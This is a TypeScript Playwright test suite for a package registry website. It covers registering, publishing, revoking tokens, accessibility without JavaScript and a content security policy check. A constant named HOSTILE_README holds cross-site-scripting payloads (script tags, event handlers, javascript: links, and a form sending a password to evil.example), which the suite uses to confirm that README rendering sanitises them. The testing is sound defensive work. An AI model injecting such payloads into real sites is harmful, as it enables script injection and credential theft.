import { afterAll, beforeAll, expect, test } from "bun:test";
import { join } from "node:path";

import type { BrowserContextOptions, Page } from "playwright-core";

import { describeBrowser } from "../support/browser.ts";
import {
  land,
  type LandServer,
  startLand,
  type TemporaryFolder,
  temporaryFolder,
} from "../support/land.ts";
import { writeFiles } from "../support/project.ts";

const HOSTILE_README = `# greet

<script>document.title = "owned"</script>
<img src="x" onerror="document.title = 'owned'">
<svg onload="document.title = 'owned'"><script>document.title = "owned"</script></svg>
<a href="javascript:document.title='owned'">click me</a>
[or me](javascript:document.title='owned')
<style>body { display: none }</style>
<form action="https://evil.example/"><input name="password"></form>

It *greets*.
`;

const PASSWORD = "correct horse battery";

describeBrowser("the website", (browser) => {
  let folder: TemporaryFolder;
  let server: LandServer;
  beforeAll(async () => {
    folder = await temporaryFolder("browser");
    await writeFiles(folder.path, { "home/.keep": "" });
    server = await startLand({
      data: join(folder.path, "data"),
      home: join(folder.path, "home"),
    });
  }, 60_000);
  afterAll(async () => {
    await server[Symbol.asyncDispose]();
    await folder[Symbol.asyncDispose]();
  });

  /** A tab of a browser that knows nothing yet; what goes wrong in it fails the test. */
  async function openTab(
    use: (tab: Page) => Promise<void>,
    options: BrowserContextOptions = {},
  ): Promise<void> {
    const context = await browser().newContext({ baseURL: server.url, ...options });
    const wrong: string[] = [];
    const tab = await context.newPage();
    tab.on("pageerror", (error) => wrong.push(error.message));
    tab.on("console", (message) => message.type() === "error" && wrong.push(message.text()));
    tab.on("request", (request) => {
      if (new URL(request.url()).origin !== server.url) wrong.push(`asked ${request.url()}`);
    });
    await use(tab);
    await context.close();
    expect(wrong).toEqual([]);
  }

  async function fill(tab: Page, fields: Record<string, string>): Promise<void> {
    for (const [name, value] of Object.entries(fields)) await tab.fill(`[name="${name}"]`, value);
  }

  const publish = async (
    name: string,
    files: Record<string, string>,
    env: Record<string, string>,
  ) => {
    const dir = join(folder.path, name);
    await writeFiles(dir, {
      "land.json": JSON.stringify({
        name,
        version: "1.0.0",
        description: "Says hello",
        license: "MIT",
      }),
      ...files,
    });
    const home = join(folder.path, "home");
    const done = await land(["publish", "--yes", "--json"], {
      cwd: dir,
      home,
      env: { LAND_REGISTRY: server.url, ...env },
    });
    expect(done).toMatchObject({ exitCode: 0 });
  };

  test("register, make a token, publish with it, find the package, revoke the token", async () => {
    await openTab(async (tab) => {
      await tab.goto("/register");
      await fill(tab, { username: "ada", email: "ada@example.com", password: PASSWORD });
      await tab.click('form[action="/register"] button');
      await tab.waitForURL("**/dashboard*");

      await tab.goto("/settings");
      await fill(tab, { name: "ci" });
      await tab.check('[name="scopes"][value="publish"]');
      await tab.click("text=Make token");
      const token = (await tab.textContent(".secret code")) ?? "";
      expect(token).toMatch(/^land_[0-9A-Za-z]{49}$/);

      await publish("greet", { "README.md": HOSTILE_README }, { LAND_TOKEN: token });

      await tab.goto("/packages");
      await fill(tab, { q: "gree" });
      await tab.press('[name="q"]', "Enter");
      await tab.click('main a[href="/packages/greet"]');
      await tab.waitForURL("**/packages/greet");
      expect(await tab.textContent("h1")).toContain("greet");
      expect(await tab.textContent("main")).toContain("land add greet");
      expect(await tab.textContent("main")).toContain("sha256:");

      await tab.goto("/settings");
      await tab.click('form[action$="/revoke"] button');
      await tab.waitForURL("**/settings*");
      const refused = await land(["whoami", "--json"], {
        cwd: folder.path,
        home: join(folder.path, "home"),
        env: { LAND_REGISTRY: server.url, LAND_TOKEN: token },
      });
      expect(refused.exitCode).toBe(15);
    });
  }, 60_000);

  test("a README with script, handlers, script addresses and SVG does nothing", async () => {
    await openTab(async (tab) => {
      await tab.goto("/packages/greet");
      expect(await tab.title()).not.toBe("owned");
      expect(await tab.locator("main em").textContent()).toBe("greets");
      expect(
        await tab.locator(".readme :is(script, svg, style, form, iframe, [onerror])").count(),
      ).toBe(0);
      expect(await tab.locator('a[href^="javascript:"]').count()).toBe(0);
      for (const text of ["click me", "or me"]) {
        const link = tab.locator(`.readme a:has-text("${text}")`);
        if ((await link.count()) > 0) await link.click();
      }
      expect(await tab.title()).not.toBe("owned");
    });
  }, 60_000);

  test("everything works without JavaScript, on a phone, in the dark", async () => {
    await openTab(
      async (tab) => {
        await tab.goto("/login");
        await fill(tab, { username: "ada", password: PASSWORD });
        await tab.click('form[action="/login"] button');
        await tab.waitForURL("**/dashboard*");
        expect(await tab.textContent("main")).toContain("greet");
        for (const path of [
          "/",
          "/packages",
          "/packages/greet",
          "/packages/greet/1.0.0",
          "/dashboard",
          "/settings",
          "/docs/api",
          "/errors",
        ]) {
          await tab.goto(path);
          const box = await tab.locator("html").boundingBox();
          expect([path, box?.width]).toEqual([path, 360]);
        }
        await tab.click("text=Sign out");
        await tab.goto("/dashboard");
        expect(new URL(tab.url()).pathname).toBe("/login");
      },
      { javaScriptEnabled: false, colorScheme: "dark", viewport: { width: 360, height: 740 } },
    );
  }, 60_000);

  test("a wrong password is told on the form, and what was typed stays", async () => {
    const context = await browser().newContext({ baseURL: server.url });
    const tab = await context.newPage();
    await tab.goto("/login");
    await fill(tab, { username: "ada", password: "wrong password" });
    await tab.click('form[action="/login"] button');
    expect(await tab.textContent("main")).toContain("do not match");
    expect(await tab.inputValue('[name="username"]')).toBe("ada");
    expect(await tab.inputValue('[name="password"]')).toBe("");
    await context.close();
  }, 60_000);
});

test("the policy of pages allows no inline script and no other origin", async () => {
  await using folder = await temporaryFolder("policy");
  await using server = await startLand({ data: join(folder.path, "data"), home: folder.path });
  const policy = (await fetch(server.url)).headers.get("content-security-policy") ?? "";
  expect(policy).toContain("default-src 'none'");
  expect(policy).toContain("script-src 'self'");
  expect(policy).not.toContain("unsafe");
});
